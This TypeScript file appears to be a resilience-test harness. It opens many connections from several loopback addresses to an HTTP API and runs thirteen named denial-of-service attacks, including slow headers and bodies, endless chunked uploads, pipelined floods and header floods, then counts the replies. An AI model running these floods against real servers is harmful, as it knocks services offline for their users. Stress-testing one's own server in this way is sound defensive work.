/** Attacks a server through its connections, from several addresses, in a separate process. */
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { answerParent } from './child.ts';

export interface Attack {
  url: string;
  name: AttackName;
  connections: number;
  seconds: number;
  /** The number of addresses the connections come from. */
  addresses: number;
}

export interface AttackOutcome {
  /** Connections that were still open at the end. */
  open: number;
  /** Replies of the server by status. */
  statuses: Record<string, number>;
}

const get = 'GET /lob/api/v1/webmodelos/getall HTTP/1.1\r\nHost: percha\r\n';
const form = 'multipart/form-data; boundary=x';
const post = (path: string, headers: string) => `POST ${path} HTTP/1.1\r\nHost: percha\r\n${headers}\r\n\r\n`;
const registers = '/lob/api/v1/registers';
const large = Buffer.alloc(9_000_000, 'x');
const chunk = Buffer.from(`4000\r\n${'x'.repeat(0x4000)}\r\n`);
const manyHeaders = Array.from({ length: 1400 }, (_, n) => `h${n}: 1\r\n`).join('');

/** The delay before an attacker replaces a closed connection. */
const reconnectMs = 200;

/** Each attack runs on one connection until the socket closes, and again on a new one. */
const attacks = {
  'slow headers': (socket: Socket) => trickle(socket, get, 'X: '),
  'slow small bodies': (socket: Socket) =>
    trickle(socket, post('/lob/api/tokens', 'Content-Type: application/json\r\nContent-Length: 60000'), '{'),
  'slow large bodies': (socket: Socket) => {
    socket.write(post(registers, `Content-Type: ${form}\r\nContent-Length: 9000100`));
    trickle(socket, large, 'x');
  },
  'idle connections': () => {},
  'idle after a reply': (socket: Socket) => socket.write(`${get}\r\n`),
  'endless chunks': (socket: Socket) => {
    socket.write(post(registers, `Content-Type: ${form}\r\nTransfer-Encoding: chunked`));
    pour(socket, chunk);
  },
  'pipelined calls': (socket: Socket) =>
    pour(socket, Buffer.from(`${get.replace('getall', 'getall?q=1')}\r\n`.repeat(500))),
  'pipelined database calls': (socket: Socket) =>
    pour(socket, Buffer.from('GET /lob/api/v1/webmodelos/999999 HTTP/1.1\r\nHost: p\r\n\r\n'.repeat(500))),
  'aborted uploads': (socket: Socket) => {
    socket.write(post(registers, `Content-Type: ${form}\r\nContent-Length: 9000100`));
    socket.write(large.subarray(0, 2_000_000), () => socket.destroy());
  },
  'very many headers': (socket: Socket) => pour(socket, Buffer.from(`${get}${manyHeaders}\r\n`)),
  'HTTP/1.0': (socket: Socket) => socket.write('GET /lob/api/v1/webmodelos/getall HTTP/1.0\r\n\r\n'),
  'half-closed': (socket: Socket) => socket.end(`${get}\r\n`),
  'replies that nobody reads': (socket: Socket) => {
    socket.pause();
    pour(socket, Buffer.from(`${get}\r\n`.repeat(100)));
  },
} as const;
export type AttackName = keyof typeof attacks;

/** Writes a beginning, and then a byte a second. */
function trickle(socket: Socket, beginning: string | Buffer, byte: string): void {
  socket.write(beginning);
  const timer = setInterval(() => socket.write(byte), 1000);
  socket.once('close', () => clearInterval(timer));
}

/** Writes the same bytes repeatedly, as fast as the server reads. */
function pour(socket: Socket, bytes: Buffer): void {
  const more = () => {
    while (!socket.destroyed && socket.write(bytes));
  };
  socket.on('drain', () => setImmediate(more));
  more();
}

answerParent(run);

async function run({ url, name, connections, seconds, addresses }: Attack): Promise<AttackOutcome> {
  const { hostname, port } = new URL(url);
  const open = new Set<Socket>();
  const statuses: Record<string, number> = {};
  let over = false;
  let begun = 0;
  const begin = () => {
    if (over) return;
    begun += 1;
    const socket = connect({
      host: hostname,
      port: Number(port),
      localAddress: `127.0.1.${1 + (begun % addresses)}`,
      allowHalfOpen: true,
    });
    open.add(socket);
    socket.on('connect', () => attacks[name](socket));
    socket.on('data', (bytes) => {
      for (const [, status = ''] of bytes.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3}) /g)) {
        statuses[status] = (statuses[status] ?? 0) + 1;
      }
    });
    socket.on('error', () => {});
    socket.on('end', () => socket.destroy());
    socket.once('close', () => {
      open.delete(socket);
      if (!over) setTimeout(begin, reconnectMs);
    });
  };
  for (let n = 0; n < connections; n += 1) {
    begin();
    if (n % 50 === 0) await wait(5);
  }
  await wait(seconds * 1000);
  over = true;
  const left = open.size;
  for (const socket of open) socket.destroy();
  return { open: left, statuses };
}
